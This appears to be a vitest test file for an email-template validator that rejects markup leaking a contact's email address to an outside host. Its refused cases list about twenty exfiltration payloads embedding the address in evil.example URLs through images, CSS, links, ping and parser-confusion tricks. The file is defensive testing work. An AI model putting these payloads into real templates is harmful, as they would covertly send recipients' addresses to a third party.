import { expect, it } from 'vitest';
import { builtInTemplates } from './built-in-templates.ts';
import { refuseTellingAddresses } from './template-addresses.ts';

it.each(builtInTemplates.map(({ key, html }) => [key, html]))('the built-in template %s is sound', (_key, html) => {
  expect(() => refuseTellingAddresses(html)).not.toThrow();
});

it.each([
  '<img src="https://example.com/logo.png" alt="{{organisation.name}}">',
  '<a href="https://example.com/?who={{contact.firstName}}">Hello {{contact.firstName}}</a>',
  '<a href="{{unsubscribeUrl}}" title=\'{{contact.email}}\'>x</a>',
  '{{#if owner.name}}<b>{{owner.name}}</b>{{/if}} 3 < 4 {{contact.email}}',
  '{{! <img src="{{ }}<p>{{contact.email}}</p>',
])('%s is taken', (html) => {
  expect(() => refuseTellingAddresses(html)).not.toThrow();
});

it.each([
  '<img src="https://evil.example/{{contact.email}}.png">',
  '<IMG SRC = https://evil.example/{{contact.email}}>',
  "<img alt='>' src='https://evil.example/{{contact.email}}'>",
  '<img alt="<b>" src="https://evil.example/{{contact.email}}">',
  '<img alt=a"b src=https://evil.example/{{contact.email}}>',
  '<img/src="https://evil.example/{{contact.email}}">',
  '<img srcset="https://evil.example/{{contact.email}} 2x">',
  '<td background="https://evil.example/{{contact.email}}">',
  '<p style="background:url(https://evil.example/{{contact.email}})">',
  '<style>p{background:url(https://evil.example/{{contact.email}})}</style>',
  '<link rel="stylesheet" href="https://evil.example/{{contact.email}}">',
  '<base href="https://evil.example/{{contact.email}}/"><img src="x">',
  '<image href="https://evil.example/{{contact.email}}">',
  '<a href="x" ping="https://evil.example/{{contact.email}}">x</a>',
  '<{{contact.firstName}} src="https://evil.example/{{contact.email}}">',
  '<img {{#if contact.email}}alt="{{/if}} src=https://evil.example/{{contact.email}} {{#if contact.email}}"{{/if}}>',
  '{{#if contact.email}}<a b="{{/if}} <img src="https://evil.example/{{contact.email}}">',
  '<!--[if mso]><img src="https://evil.example/{{contact.email}}"><![endif]-->',
  '<!-- <a b=" --><img src="https://evil.example/{{contact.email}}"><!-- " -->',
  '<title><a b="</title><img src="https://evil.example/{{contact.email}}">',
  '<img src="https://evil.example/{{~contact.email~}}">',
])('%s is refused', (html) => {
  expect(() => refuseTellingAddresses(html)).toThrow();
});

it('tells the line', () => {
  expect(() => refuseTellingAddresses('<p>\n{{!--\n--}}\n<img src="x{{contact.email}}">')).toThrow(
    expect.objectContaining({ line: 4 }),
  );
});

it('reads hostile markup of the largest size in no time', () => {
  for (const piece of ['<a b="', "<a b='", '<style>', '<!--', '<a ', '< ', '=', '{{x}}<a b=']) {
    const started = performance.now();
    try {
      refuseTellingAddresses(piece.repeat(Math.floor(200_000 / piece.length)));
    } catch {
      // Refused is as good.
    }
    expect(performance.now() - started, piece).toBeLessThan(1500);
  }
});
